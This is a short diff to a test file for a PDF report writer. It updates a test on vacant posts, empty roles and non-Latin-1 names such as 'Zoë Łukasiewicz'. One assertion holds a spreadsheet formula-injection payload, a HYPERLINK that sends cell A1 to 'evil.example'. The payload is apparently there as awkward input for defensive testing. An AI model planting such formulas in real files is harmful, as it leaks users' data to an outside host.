@@ -99,7 +99,7 @@ describe('writePdf', () => {
     for (let i = 1; i <= 70; i++) expect(all.split(`Responsibility number ${i} with`).length - 1).toBe(1);
   }, 30_000);
 
-  it('handles a vacant post, a role without responsibilities and characters Helvetica lacks', async () => {
+  it('handles a vacant post, a role without responsibilities and names beyond Latin-1', async () => {
     const inputs = awkwardInputs();
     const report = buildRoleDefinitions(inputs.snapshot, inputs.analysis, inputs.policy, inputs.options, { department: 'Sales' });
     const { pdf } = await pdfOf(report);
@@ -107,7 +107,7 @@ describe('writePdf', () => {
     expect(text).toContain('Vacant post (V1)');
     expect(text).toContain('This post is vacant');
     expect(text).toContain('No responsibilities are recorded for this role');
-    expect(text).toContain('Zoë ?ukasiewicz');
+    expect(text).toContain('Zoë Łukasiewicz');
     expect(text).toContain('=HYPERLINK("http://evil.example/?leak="&A1,"Click for bonus")');
   }, 30_000);
 
